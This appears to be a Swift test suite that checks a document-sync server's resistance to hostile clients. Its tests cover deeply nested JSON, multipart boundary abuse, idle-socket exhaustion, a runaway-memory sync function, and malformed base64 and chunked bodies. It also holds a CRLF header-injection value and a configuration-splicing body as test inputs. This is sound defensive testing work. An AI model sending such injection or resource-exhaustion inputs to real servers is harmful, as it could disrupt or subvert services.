    @Test func deletingADatabaseWithARevIsRefused() async throws {
        let server = try channelServer(Self.config())
        try await withPorts(server) { _, admin in
            let r = try await admin.send(.delete, "/db?rev=1-abc")
            #expect(r.status == .badRequest, "\(r.text)")
            #expect(try await admin.send(.get, "/db").status == .ok)
        }
    }
}

// MARK: - Bounded work per request

extension HostileClientTests {
    static func nested(_ depth: Int) -> String {
        // `depth` levels: the document and depth − 1 arrays inside it.
        "{\"channels\": [\"red\"], \"deep\": " + String(repeating: "[", count: depth - 1) + "1" + String(repeating: "]", count: depth - 1) + "}"
    }

    /// A document nested deeper than the limit is refused at write; one stored deeper before (or
    /// by the app serving the database) never fails a whole feed, `_bulk_get` or `open_revs`.
    @Test func deeplyNestedDocuments() async throws {
        let server = try channelServer(Self.config())
        try await withPorts(server) { pub, admin in
            #expect(server.configuration.maxDocumentDepth == 100)
            var r = try await admin.send(.put, "/db/ok", json: Self.nested(100))
            #expect(r.status == .created, "\(r.text)")
            r = try await admin.send(.put, "/db/deep", json: Self.nested(101))
            #expect(r.status == .badRequest && r.text.contains("100"), "\(r.text)")
            r = try await admin.send(.post, "/db/_bulk_docs", json: #"{"docs": [\#(Self.nested(101))]}"#)
            #expect(r.status == .badRequest, "\(r.text)")
            r = try await admin.send(.post, "/db/_bulk_docs", json: #"{"new_edits": false, "docs": [{"_id": "deep", "_rev": "1-a", "x": \#(Self.nested(101))}]}"#)
            #expect(r.status == .badRequest, "\(r.text)")
            // Stored at the parser's own limit, below the server.
            let deep = try JSONValue(parsing: Self.nested(JSONValue.maxParsedDepth))
            try await server.database(named: "db")!.database.saveDocument(MutableDocument(id: "legacy", data: deep.objectValue ?? [:]))
            try await put(admin, "plain", #"{"channels": ["red"]}"#)
            for (c, who) in [(admin, HTTPFields()), (pub, Self.alice)] {
                for path in ["/db/_changes?include_docs=true", "/db/_changes?include_docs=true&feed=longpoll",
                             "/db/_all_docs?include_docs=true", "/db/legacy?open_revs=all", "/db/legacy?revs=true"] {
                    r = try await c.send(.get, path, headers: adding(who, .accept, "application/json"))
                    #expect(r.status == .ok, "\(path): \(r.status) \(r.text.prefix(200))")
                    if path.contains("_changes") || path.contains("_all_docs") { #expect(r.text.contains("plain"), "\(path)") }
                }
                r = try await c.send(.post, "/db/_bulk_get?revs=true", json: #"{"docs": [{"id": "legacy"}, {"id": "plain"}]}"#, headers: who)
                #expect(r.status == .ok && r.text.contains("plain"), "\(r.text.prefix(200))")
                r = try await c.send(.get, "/db/legacy?open_revs=all", headers: adding(who, .accept, "multipart/mixed"))
                #expect(r.status == .ok)
            }
        }
    }
}

extension HostileClientTests {
    /// Multipart: a boundary longer than RFC 2046's 70 characters is a 400; bodies built against
    /// a naive search (a boundary repeated almost everywhere, many parts, many attachments) are
    /// read in one pass and answered correctly.
    @Test func multipartBodiesAreReadInOnePass() async throws {
        let server = try channelServer(Self.config())
        try await withPorts(server) { _, admin in
            let long = String(repeating: "b", count: 8192)
            var body = "--\(long)\r\nContent-Type: application/json\r\n\r\n{}\r\n--\(long)--"
            var r = try await admin.execute(uri: "/db/m?new_edits=false", method: .put,
                                            headers: [.contentType: "multipart/related; boundary=\"\(long)\""], body: ByteBuffer(string: body))
            #expect(r.status == .badRequest && r.text.contains("70"), "\(r.text)")
            let b71 = String(repeating: "c", count: 71)
            r = try await admin.execute(uri: "/db/m", method: .put, headers: [.contentType: "multipart/related; boundary=\(b71)"], body: ByteBuffer(string: "x"))
            #expect(r.status == .badRequest)

            // 70 characters, and an attachment that is almost the delimiter, many times over.
            let boundary = String(repeating: "a", count: 70)
            let nearMiss = String(repeating: "--" + String(repeating: "a", count: 69) + "b", count: 20_000)
            let doc = #"{"_id": "m", "_rev": "1-x", "channels": ["red"], "_attachments": {"near.txt": {"content_type": "text/plain", "follows": true, "length": \#(nearMiss.utf8.count)}}}"#
            body = "--\(boundary)\r\nContent-Type: application/json\r\n\r\n\(doc)\r\n--\(boundary)\r\nContent-Type: text/plain\r\n\r\n\(nearMiss)\r\n--\(boundary)--"
            r = try await admin.execute(uri: "/db/m?new_edits=false", method: .put,
                                        headers: [.contentType: "multipart/related; boundary=\"\(boundary)\""], body: ByteBuffer(string: body))
            #expect(r.status == .created, "\(r.text)")
            #expect(try await admin.send(.get, "/db/m/near.txt").text == nearMiss)

            // Thousands of attachments, each named by its part: linear in the parts.
            let n = 3000
            var atts: [String] = []
            var parts = ""
            for i in 0 ..< n {
                atts.append(#""f\#(i)": {"content_type": "text/plain", "follows": true, "length": 1}"#)
                parts += "\r\n--B\r\nContent-Disposition: attachment; filename=\"f\(n - 1 - i)\"\r\n\r\n\(i % 10)"
            }
            let manyDoc = #"{"_id": "many", "_rev": "1-y", "_attachments": {\#(atts.joined(separator: ", "))}}"#
            body = "--B\r\nContent-Type: application/json\r\n\r\n\(manyDoc)" + parts + "\r\n--B--"
            r = try await admin.execute(uri: "/db/many?new_edits=false", method: .put,
                                        headers: [.contentType: "multipart/related; boundary=B"], body: ByteBuffer(string: body))
            #expect(r.status == .created, "\(r.text)")
            #expect(try await admin.send(.get, "/db/many/f0").text == "\((n - 1) % 10)")
            // A part no attachment follows, and an attachment without its part.
            body = "--B\r\nContent-Type: application/json\r\n\r\n{\"_id\": \"x\", \"_rev\": \"1-z\"}\r\n--B\r\n\r\nextra\r\n--B--"
            r = try await admin.execute(uri: "/db/x?new_edits=false", method: .put, headers: [.contentType: "multipart/related; boundary=B"], body: ByteBuffer(string: body))
            #expect(r.status == .badRequest, "\(r.text)")
        }
    }
}

extension HostileClientTests {
    /// Idle sockets fill the listener they were opened on, up to its limit, and no more: the
    /// other port answers, a connection past the limit is closed, and once they go the port
    /// serves again. The descriptor limit is raised at start.
    @Test func idleSocketsCannotTakeThePortsDown() async throws {
        let server = try channelServer(Self.config(extra: #""maxIncomingConnections": 20, "#))
        try await whileRunning(server) { ports in
            let port = try #require(ports.adminPort)
            var idle: [TestClient] = []
            for _ in 0 ..< 60 {
                let c = TestClient(host: "127.0.0.1", port: ports.publicPort, configuration: .init(timeout: liveClientTimeout))
                c.connect()
                idle.append(c)
            }
            // Each idle client holds its socket; the admin port still answers, every time.
            for _ in 0 ..< 5 {
                #expect(try await rawRequest(port: port, .get, "/db", authority: "127.0.0.1").status == .ok)
            }
            // The public port holds 20: the 61st connection is closed without an answer.
            var refused = 0
            for _ in 0 ..< 3 {
                do {
                    _ = try await rawRequest(port: ports.publicPort, .get, "/", authority: "127.0.0.1")
                } catch {
                    refused += 1
                }
            }
            #expect(refused == 3)
            for c in idle { try? await c.shutdown() }
            // Their places are given back as they close.
            var served = false
            for _ in 0 ..< 500 where !served {
                served = (try? await rawRequest(port: ports.publicPort, .get, "/", authority: "127.0.0.1").status) == .ok
                if !served { try await Task.sleep(for: .milliseconds(10)) }
            }
            #expect(served)
        }
        var limit = rlimit()
        #expect(getrlimit(Int32(RLIMIT_NOFILE.rawValue), &limit) == 0)
        #expect(limit.rlim_cur >= min(rlim_t(5000), limit.rlim_max))
        let limiter = ConnectionLimiter(limit: 2)
        #expect(limiter.admit() && limiter.admit() && !limiter.admit())
        limiter.release()
        #expect(limiter.admit() && limiter.count == 2)
        #expect(ConnectionLimiter(limit: 0).admit())
    }
}

extension HostileClientTests {
    /// A user's feed read from its channels' logs and read from the changes and their documents'
    /// channels are the same feed, for random documents, users and positions; and paged with any
    /// limit, either way gives every row (a page starting after a channel's grant may send that
    /// channel's older documents again, as a backfill does, and removals of what a client may
    /// never have had).
    @Test func bothWaysOfReadingAUsersFeedAgree() throws {
        let seed = ProcessInfo.processInfo.environment["SETTEE_SEED"].flatMap(UInt64.init) ?? UInt64.random(in: 0 ... .max)
        print("bothWaysOfReadingAUsersFeedAgree seed \(seed) (SETTEE_SEED=\(seed) replays it)")
        var rng = KillRecoveryTests.SplitMix64(seed: seed)
        let server = try channelServer(Self.config())
        defer { try? server.close() }
        let served = try #require(server.database(named: "db"))
        let db = served.database
        let names = ["a", "b", "c", "d", "e"]
        func channels() -> JSONValue { .array(names.filter { _ in rng.next() % 3 == 0 }.map(JSONValue.string)) }
        for step in 0 ..< 200 {
            let id = "doc\(rng.next() % 30)"
            switch rng.next() % 6 {
            case 0 where try db.document(withID: id) != nil:
                try db.deleteDocument(try #require(try db.document(withID: id)))
            case 1:
                // A conflicting branch from a peer.
                let rev = "\(rng.next() % 4 + 1)-peer\(step)"
                _ = try db.insertRevisions([ReplicatedRevision(documentID: id, revisionID: rev, history: [rev], isDeleted: false,
                                                               properties: ["channels": channels()])])
            default:
                let m = try db.document(withID: id)?.toMutable() ?? MutableDocument(id: id)
                m.setValue(channels(), forKey: "channels")
                m.setInt(Int(step), forKey: "step")
                try db.saveDocument(m)
            }
        }
        let last = try db.lastSequence
        func shown(_ e: [FeedEntry]) -> [String] {
            e.map { "\($0.position.major):\($0.position.minor) \($0.documentID) \($0.revisionID) \($0.isDeleted) \($0.removed?.sorted() ?? []) \($0.otherLeaves)" }
        }
        for _ in 0 ..< 80 {
            var access = UserAccess()
            for c in names where rng.next() % 2 == 0 { access.grant(c, since: rng.next() % (last + 1)) }
            for c in names where access.channels[c] == nil && rng.next() % 4 == 0 { access.revoke(c, at: rng.next() % (last + 1)) }
            let major = rng.next() % (last + 2)
            let since = rng.next() % 4 == 0 && major > 0 ? FeedPosition(major: major, minor: rng.next() % major) : FeedPosition(major)
            let requested: Set<String>? = rng.next() % 4 == 0 ? Set(names.filter { _ in rng.next() % 2 == 0 }) : nil
            let whole = try served.channelEntries(access: access, requested: requested, since: since, limit: nil, bySequence: false)
            let scanned = try served.channelEntries(access: access, requested: requested, since: since, limit: nil, bySequence: true)
            let context = "seed \(seed): since \(since) \(access) \(String(describing: requested))"
            #expect(shown(whole.entries) == shown(scanned.entries) && !whole.more && !scanned.more && whole.last == scanned.last,
                    "\(context)\n\(shown(whole.entries))\n\(shown(scanned.entries))")
            let limit = Int(rng.next() % 4) + 1
            for bySequence in [false, true] {
                var position = since
                var rows: [FeedEntry] = []
                var pages = 0
                while true {
                    let page = try served.channelEntries(access: access, requested: requested, since: position, limit: limit, bySequence: bySequence)
                    if ProcessInfo.processInfo.environment["SETTEE_DEBUG"] != nil {
                        print("page from \(position): \(shown(page.entries)) more \(page.more) last \(page.last)")
                    }
                    rows += page.entries
                    pages += 1
                    guard page.more, pages < 1000 else { break }
                    #expect(page.last > position || !page.entries.isEmpty, "\(context): a page made no progress")
                    position = page.last
                }
                // Every row, none lost. A page that starts after a channel's grant may send that
                // channel's older documents again (a backfill), and one that starts before a
                // channel was lost tells the client to remove documents it may never have had:
                // repeats and removals, nothing else.
                func keys(_ e: [FeedEntry]) -> Set<String> { Set(e.map { "\($0.documentID) \($0.revisionID) \($0.removed != nil)" }) }
                let paged = keys(rows), expected = keys(whole.entries)
                #expect(expected.isSubset(of: paged), "\(context) limit \(limit) bySequence \(bySequence) lost \(expected.subtracting(paged).sorted())")
                #expect(paged.subtracting(expected).allSatisfy { $0.hasSuffix(" true") },
                        "\(context) limit \(limit) bySequence \(bySequence) added \(paged.subtracting(expected).sorted())")
            }
        }
    }
}


extension HostileClientTests {
    /// Through the server: a sync function that allocates without bound has its write refused,
    /// the server answers on, and the next write goes through.
    @Test func aSyncFunctionThatAllocatesWithoutBoundIsStopped() async throws {
        let sync = """
            `function (doc, oldDoc) {
                if (doc.hog) { var a = []; while (true) { a.push(new Array(1000).fill(a.length)); } }
                channel(doc.channels);
            }`
            """
        let server = try channelServer(Self.config(sync: sync))
        try await withPorts(server) { pub, admin in
            let r = try await admin.send(.put, "/db/hog", json: #"{"hog": true}"#)
            // Stopped by its memory bound, or by its time bound first on a loaded machine.
            #expect(r.status == .forbidden && (r.text.contains("MiB") || r.text.contains("time limit")), "\(r.text)")
            #expect(try await admin.send(.get, "/db/hog").status == .notFound)
            try await put(admin, "fine", #"{"channels": ["red"]}"#)
            #expect(try await pub.send(.get, "/db/fine", headers: Self.alice).status == .ok)
        }
    }
}

extension HostileClientTests {
    /// Malformed input is the client's 400: base64 that is not strict, a chunked body that does
    /// not parse, an attachment type no header can carry; `PUT /{db}` reads its body as a value
    /// (a body that would splice into configuration text is just a wrong value).
    @Test func malformedInputIsABadRequest() async throws {
        let server = try channelServer(Self.config())
        try await whileRunning(server) { ports in
            let port = try #require(ports.adminPort)
            let json: HTTPFields = [.contentType: "application/json"]
            for data in ["aGVsbG8=====", "aGVsbG8", "aGVs bG8=", "YQ==YQ==", "YR==", "aGVsbG8=\n", "@@@@", "Zm9v!"] {
                let r = try await rawRequest(port: port, .put, "/db/b64", authority: "127.0.0.1", headers: json,
                                             body: #"{"_attachments": {"x": {"content_type": "text/plain", "data": "\#(data)"}}}"#)
                #expect(r.status == .badRequest, "\(data): \(r.status)")
            }
            #expect(try await rawRequest(port: port, .get, "/db/b64", authority: "127.0.0.1").status == .notFound)
            let good = try await rawRequest(port: port, .put, "/db/b64", authority: "127.0.0.1", headers: json,
                                            body: #"{"_attachments": {"x": {"content_type": "text/plain", "data": "aGVsbG8="}}}"#)
            #expect(good.status == .created)
            // Attachment types a header cannot carry.
            let longType = String(repeating: "a", count: 300)
            for type in [longType, "text/plain\\r\\nX-Evil: 1"] {
                let r = try await rawRequest(port: port, .put, "/db/t", authority: "127.0.0.1", headers: json,
                                             body: #"{"_attachments": {"x": {"content_type": "\#(type)", "data": "aGVsbG8="}}}"#)
                #expect(r.status == .badRequest, "\(type.prefix(20)): \(r.status)")
            }
            // A malformed chunked body.
            for chunks in ["zz\r\n{}\r\n0\r\n\r\n", "2\r\n{}XX\r\n0\r\n\r\n"] {
                let reply = try await Self.exchange(port: port, "PUT /db/chunky HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks)
                #expect(reply.hasPrefix("HTTP/1.1 400"), "\(reply.prefix(120))")
            }
            // PUT /{db}: the body is a value, read as the database's keys.
            let splice = #"{"server": "walrus:"}, "other": {"server": "/tmp/x"}"#
            var r = try await rawRequest(port: port, .put, "/spliced", authority: "127.0.0.1", headers: json, body: splice)
            #expect(r.status == .badRequest)
            #expect(try await rawRequest(port: port, .get, "/other", authority: "127.0.0.1").status == .notFound)
            r = try await rawRequest(port: port, .put, "/made", authority: "127.0.0.1", headers: json, body: #"{"server": "walrus:"}"#)
            #expect(r.status == .created)
        }
    }

    /// One raw HTTP exchange on loopback: what the server sent back before closing or 3 s.
    /// Sends `request` on a socket of its own and reads the reply's head. The blocking calls
    /// run on a thread of their own: on the concurrency pool (two threads on a two-core
    /// machine) they could hold up the very server they wait for.
    static func exchange(port: Int, _ request: String) async throws -> String {
        try await withCheckedThrowingContinuation { (c: CheckedContinuation<String, any Error>) in
            Thread { c.resume(with: Swift.Result { try blockingExchange(port: port, request) }) }.start()
        }
    }

    private static func blockingExchange(port: Int, _ request: String) throws -> String {
        let fd = try loopbackSocket(port: port, timeout: 30)
        defer { close(fd) }
        let bytes = Array(request.utf8)
        _ = bytes.withUnsafeBytes { send(fd, $0.baseAddress, $0.count, 0) }
        var out: [UInt8] = []
        var buffer = [UInt8](repeating: 0, count: 4096)
        while true {
            let n = buffer.withUnsafeMutableBytes { recv(fd, $0.baseAddress, $0.count, 0) }
            if n <= 0 { break }
            out += buffer[0 ..< n]
            if String(decoding: out, as: UTF8.self).contains("\r\n\r\n") && out.count > 100 { break }
        }
        return String(decoding: out, as: UTF8.self)
    }
}
